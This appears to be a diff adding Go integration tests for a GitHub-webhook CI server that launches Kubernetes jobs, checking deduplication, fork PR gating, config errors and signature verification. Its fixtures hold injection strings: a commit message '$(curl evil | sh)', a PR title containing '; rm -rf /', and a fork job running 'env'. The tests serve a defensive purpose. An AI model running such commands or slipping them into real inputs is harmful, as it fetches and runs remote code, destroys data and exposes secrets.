@@ -1,0 +1,376 @@
+package server
+
+import (
+	"bytes"
+	"context"
+	"crypto/sha1"
+	"encoding/hex"
+	"encoding/json"
+	"fmt"
+	"io"
+	"log/slog"
+	"net/http"
+	"net/http/httptest"
+	"strings"
+	"sync"
+	"testing"
+	"time"
+
+	batchv1 "k8s.io/api/batch/v1"
+	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
+	"k8s.io/client-go/kubernetes"
+
+	"github.com/yaci-ci/yaci/internal/github"
+	"github.com/yaci-ci/yaci/internal/githubtest"
+	"github.com/yaci-ci/yaci/internal/launch"
+	"github.com/yaci-ci/yaci/internal/testenv"
+	"github.com/yaci-ci/yaci/internal/webhook"
+)
+
+func TestMain(m *testing.M) { testenv.Main(m) }
+
+const (
+	owner      = "octo"
+	repoName   = "app"
+	secret     = "webhook-secret-for-tests"
+	apiToken   = "ghp_test_token"
+	twoJobs    = "jobs:\n  - name: test\n    image: golang:1.26\n    run: go test ./...\n  - name: lint\n    image: golang:1.26\n    run: go vet ./...\n"
+	publicBase = "https://ci.example.com"
+)
+
+// env is one yaci server on the real control plane, talking to a fake
+// GitHub, as a test sees it.
+type env struct {
+	gh   *githubtest.Server
+	kube kubernetes.Interface
+	ns   string
+	url  string
+}
+
+func newEnv(t testing.TB) *env {
+	t.Helper()
+	cfg, ns := testenv.Namespace(t)
+	kube := kubernetes.NewForConfigOrDie(cfg)
+
+	fake := githubtest.NewServer(t)
+	fake.SetToken(apiToken)
+	client, err := github.New(github.Options{
+		BaseURL: fake.URL,
+		Token:   github.Secret(apiToken),
+		Retry:   github.RetryPolicy{MaxAttempts: 2, InitialInterval: 10 * time.Millisecond, MaxInterval: 50 * time.Millisecond},
+	})
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	srv, err := New(Config{
+		WebhookSecret: []byte(secret),
+		GitHub:        client,
+		Kube:          kube,
+		Launch:        launch.Options{Namespace: ns},
+		RunURL:        func(name string) string { return publicBase + "/runs/" + name },
+		Logger:        slog.New(slog.NewTextHandler(io.Discard, nil)),
+	})
+	if err != nil {
+		t.Fatal(err)
+	}
+	ctx, cancel := context.WithCancel(context.Background())
+	done := make(chan error, 1)
+	go func() { done <- srv.Run(ctx) }()
+	hs := httptest.NewServer(srv)
+	t.Cleanup(func() {
+		hs.Close()
+		cancel()
+		if err := <-done; err != nil {
+			t.Errorf("server run: %v", err)
+		}
+	})
+
+	return &env{gh: fake, kube: kube, ns: ns, url: hs.URL}
+}
+
+// sha makes a commit id that differs per test and label.
+func sha(t *testing.T, label string) string {
+	sum := sha1.Sum([]byte(t.Name() + "/" + label))
+	return hex.EncodeToString(sum[:])
+}
+
+type repoJSON struct {
+	Name     string            `json:"name"`
+	FullName string            `json:"full_name"`
+	Owner    map[string]string `json:"owner"`
+	CloneURL string            `json:"clone_url"`
+	Private  bool              `json:"private"`
+}
+
+func repo(ownerLogin, name string) repoJSON {
+	return repoJSON{
+		Name: name, FullName: ownerLogin + "/" + name,
+		Owner:    map[string]string{"login": ownerLogin},
+		CloneURL: "https://github.com/" + ownerLogin + "/" + name + ".git",
+	}
+}
+
+func pushPayload(branch, after string) []byte {
+	body, _ := json.Marshal(map[string]any{
+		"ref": "refs/heads/" + branch, "before": strings.Repeat("1", 40), "after": after,
+		"repository":  repo(owner, repoName),
+		"head_commit": map[string]any{"id": after, "message": "fix: $(curl evil | sh)"},
+		"sender":      map[string]string{"login": "mona"},
+	})
+	return body
+}
+
+func prPayload(action string, number int, head repoJSON, headSHA, assoc string) []byte {
+	body, _ := json.Marshal(map[string]any{
+		"action": action, "number": number,
+		"pull_request": map[string]any{
+			"number": number, "title": "Add `thing`; rm -rf /",
+			"user":               map[string]string{"login": "contributor"},
+			"author_association": assoc,
+			"head":               map[string]any{"sha": headSHA, "ref": "feature", "repo": head},
+			"base":               map[string]any{"sha": strings.Repeat("2", 40), "ref": "main", "repo": repo(owner, repoName)},
+		},
+		"repository": repo(owner, repoName),
+		"sender":     map[string]string{"login": "contributor"},
+	})
+	return body
+}
+
+func (e *env) deliver(t testing.TB, event, delivery string, body []byte) *http.Response {
+	t.Helper()
+	req, err := http.NewRequest(http.MethodPost, e.url+"/webhook", bytes.NewReader(body))
+	if err != nil {
+		t.Fatal(err)
+	}
+	req.Header.Set("Content-Type", "application/json")
+	req.Header.Set("X-GitHub-Event", event)
+	req.Header.Set("X-GitHub-Delivery", delivery)
+	req.Header.Set("X-Hub-Signature-256", webhook.Sign([]byte(secret), body))
+	resp, err := http.DefaultClient.Do(req)
+	if err != nil {
+		t.Fatal(err)
+	}
+	resp.Body.Close()
+
+	return resp
+}
+
+// waitFor waits until cond holds, failing the test after a minute.
+func waitFor(t *testing.T, what string, cond func() bool) {
+	t.Helper()
+	deadline := time.Now().Add(time.Minute)
+	for !cond() {
+		if time.Now().After(deadline) {
+			t.Fatalf("timed out waiting for %s", what)
+		}
+		time.Sleep(50 * time.Millisecond)
+	}
+}
+
+func (e *env) jobs(t *testing.T) []batchv1.Job {
+	t.Helper()
+	list, err := e.kube.BatchV1().Jobs(e.ns).List(context.Background(), metav1.ListOptions{LabelSelector: launch.Selector})
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	return list.Items
+}
+
+func TestPushStartsJobsAndPostsPending(t *testing.T) {
+	e := newEnv(t)
+	head := sha(t, "head")
+	e.gh.SetFile(owner, repoName, head, ".yaci.yml", []byte(twoJobs))
+
+	if resp := e.deliver(t, "push", "d-1", pushPayload("main", head)); resp.StatusCode != http.StatusAccepted {
+		t.Fatalf("delivery answered %d, want 202", resp.StatusCode)
+	}
+	waitFor(t, "two pending statuses", func() bool { return len(e.gh.Statuses(owner, repoName, head)) == 2 })
+
+	jobs := e.jobs(t)
+	if len(jobs) != 2 {
+		t.Fatalf("%d jobs, want 2", len(jobs))
+	}
+	for _, j := range jobs {
+		info, err := launch.RunFromJob(&j)
+		if err != nil {
+			t.Fatalf("job %s: %v", j.Name, err)
+		}
+		if info.SHA != head || info.Delivery != "d-1" || info.Repo.FullName() != owner+"/"+repoName {
+			t.Errorf("job %s records %+v", j.Name, info)
+		}
+		secret, err := e.kube.CoreV1().Secrets(e.ns).Get(context.Background(), j.Name+"-clone", metav1.GetOptions{})
+		if err != nil {
+			t.Errorf("clone secret of %s: %v", j.Name, err)
+		} else if len(secret.OwnerReferences) != 1 || secret.OwnerReferences[0].UID != j.UID {
+			t.Errorf("clone secret of %s not owned by its job: %+v", j.Name, secret.OwnerReferences)
+		}
+		if bytes.Contains(mustJSON(t, j), []byte(apiToken)) {
+			t.Errorf("job %s spec contains the token", j.Name)
+		}
+	}
+	for _, ctx := range []string{"yaci/push/test", "yaci/push/lint"} {
+		if n := e.gh.StatusCount(owner, repoName, head, ctx, "pending"); n != 1 {
+			t.Errorf("%s: %d pending statuses, want 1", ctx, n)
+		}
+	}
+	for _, st := range e.gh.Statuses(owner, repoName, head) {
+		if !strings.HasPrefix(st.TargetURL, publicBase+"/runs/yaci-") {
+			t.Errorf("status %s links to %q", st.Context, st.TargetURL)
+		}
+	}
+}
+
+func mustJSON(t *testing.T, v any) []byte {
+	t.Helper()
+	b, err := json.Marshal(v)
+	if err != nil {
+		t.Fatal(err)
+	}
+	return b
+}
+
+// TestConcurrentDeliveriesMakeOneJobPerJob sends one push 100 times at
+// once: half as redeliveries (same GUID), half as distinct deliveries.
+func TestConcurrentDeliveriesMakeOneJobPerJob(t *testing.T) {
+	e := newEnv(t)
+	head := sha(t, "head")
+	e.gh.SetFile(owner, repoName, head, ".yaci.yml", []byte(twoJobs))
+	body := pushPayload("main", head)
+
+	var wg sync.WaitGroup
+	codes := make(chan int, 100)
+	for i := range 100 {
+		delivery := "same-guid"
+		if i%2 == 1 {
+			delivery = fmt.Sprintf("guid-%d", i)
+		}
+		wg.Go(func() { codes <- e.deliver(t, "push", delivery, body).StatusCode })
+	}
+	wg.Wait()
+	close(codes)
+	for c := range codes {
+		if c != http.StatusAccepted && c != http.StatusOK {
+			t.Errorf("a delivery answered %d", c)
+		}
+	}
+
+	waitFor(t, "pending statuses", func() bool { return len(e.gh.Statuses(owner, repoName, head)) >= 2 })
+	// Let the 51 accepted deliveries all be handled before counting.
+	waitFor(t, "every delivery handled", func() bool { return e.gh.Calls(githubtest.EndpointGetContent) >= 51 })
+	time.Sleep(500 * time.Millisecond)
+
+	if jobs := e.jobs(t); len(jobs) != 2 {
+		t.Errorf("%d jobs, want exactly 2", len(jobs))
+	}
+	for _, ctx := range []string{"yaci/push/test", "yaci/push/lint"} {
+		if n := e.gh.StatusCount(owner, repoName, head, ctx, "pending"); n != 1 {
+			t.Errorf("%s: %d pending statuses, want 1", ctx, n)
+		}
+	}
+}
+
+func TestForkPullRequests(t *testing.T) {
+	tests := []struct {
+		name, assoc string
+		wantJobs    int
+		wantDesc    string
+	}{
+		{"collaborator runs", "COLLABORATOR", 2, "running"},
+		{"stranger waits", "NONE", 0, "waiting for a collaborator to approve this commit"},
+		{"first-time contributor waits", "FIRST_TIME_CONTRIBUTOR", 0, "waiting for a collaborator to approve this commit"},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			e := newEnv(t)
+			head := sha(t, "head")
+			// The fork's head asks to run something else; only the base
+			// branch's config may decide for an untrusted author.
+			e.gh.SetFile(owner, repoName, head, ".yaci.yml", []byte("jobs:\n  - name: evil\n    image: x\n    run: env\n"))
+			e.gh.SetFile(owner, repoName, "main", ".yaci.yml", []byte(twoJobs))
+			if tt.wantJobs > 0 {
+				e.gh.SetFile(owner, repoName, head, ".yaci.yml", []byte(twoJobs))
+			}
+
+			resp := e.deliver(t, "pull_request", "pr-1", prPayload("opened", 7, repo("stranger", repoName), head, tt.assoc))
+			if resp.StatusCode != http.StatusAccepted {
+				t.Fatalf("delivery answered %d", resp.StatusCode)
+			}
+			waitFor(t, "statuses", func() bool { return len(e.gh.Statuses(owner, repoName, head)) == 2 })
+
+			if got := len(e.jobs(t)); got != tt.wantJobs {
+				t.Errorf("%d jobs, want %d", got, tt.wantJobs)
+			}
+			for _, st := range e.gh.Statuses(owner, repoName, head) {
+				if st.State != "pending" || st.Description != tt.wantDesc || !strings.HasPrefix(st.Context, "yaci/pr/") {
+					t.Errorf("status %+v, want pending %q on yaci/pr/*", st, tt.wantDesc)
+				}
+			}
+		})
+	}
+}
+
+func TestConfigProblems(t *testing.T) {
+	e := newEnv(t)
+	bad, none := sha(t, "bad"), sha(t, "none")
+	e.gh.SetFile(owner, repoName, bad, ".yaci.yml", []byte("jobs:\n  - name: test\n    imgae: golang\n    run: x\n"))
+
+	e.deliver(t, "push", "bad-1", pushPayload("main", bad))
+	e.deliver(t, "push", "none-1", pushPayload("main", none))
+	waitFor(t, "the config error", func() bool { return len(e.gh.Statuses(owner, repoName, bad)) == 1 })
+	waitFor(t, "both reads", func() bool { return e.gh.Calls(githubtest.EndpointGetContent) >= 2 })
+
+	st := e.gh.Statuses(owner, repoName, bad)[0]
+	if st.State != "error" || st.Context != "yaci/config" || !strings.Contains(st.Description, ".yaci.yml:2:5") ||
+		!strings.Contains(st.Description, "(+1 more)") {
+		t.Errorf("config error status = %+v", st)
+	}
+	if got := e.gh.Statuses(owner, repoName, none); len(got) != 0 {
+		t.Errorf("a repository without config got statuses %+v", got)
+	}
+	if got := len(e.jobs(t)); got != 0 {
+		t.Errorf("%d jobs, want none", got)
+	}
+}
+
+func TestBadSignatureDoesNothing(t *testing.T) {
+	e := newEnv(t)
+	head := sha(t, "head")
+	e.gh.SetFile(owner, repoName, head, ".yaci.yml", []byte(twoJobs))
+	body := pushPayload("main", head)
+
+	req, _ := http.NewRequest(http.MethodPost, e.url+"/webhook", bytes.NewReader(body))
+	req.Header.Set("X-GitHub-Event", "push")
+	req.Header.Set("X-GitHub-Delivery", "forged")
+	req.Header.Set("X-Hub-Signature-256", webhook.Sign([]byte("wrong secret"), body))
+	resp, err := http.DefaultClient.Do(req)
+	if err != nil {
+		t.Fatal(err)
+	}
+	resp.Body.Close()
+	if resp.StatusCode != http.StatusUnauthorized {
+		t.Fatalf("forged delivery answered %d, want 401", resp.StatusCode)
+	}
+
+	// A good delivery after it proves the server was working all along.
+	e.deliver(t, "push", "real", pushPayload("main", sha(t, "other")))
+	waitFor(t, "the real delivery's read", func() bool { return e.gh.Calls(githubtest.EndpointGetContent) == 1 })
+	if n := len(e.gh.Statuses(owner, repoName, head)); n != 0 {
+		t.Errorf("forged delivery caused %d statuses", n)
+	}
+}
+
+func TestHealthEndpoints(t *testing.T) {
+	e := newEnv(t)
+	for _, path := range []string{"/healthz", "/readyz"} {
+		resp, err := http.Get(e.url + path)
+		if err != nil {
+			t.Fatal(err)
+		}
+		resp.Body.Close()
+		if resp.StatusCode != http.StatusOK {
+			t.Errorf("%s answered %d", path, resp.StatusCode)
+		}
+	}
+}
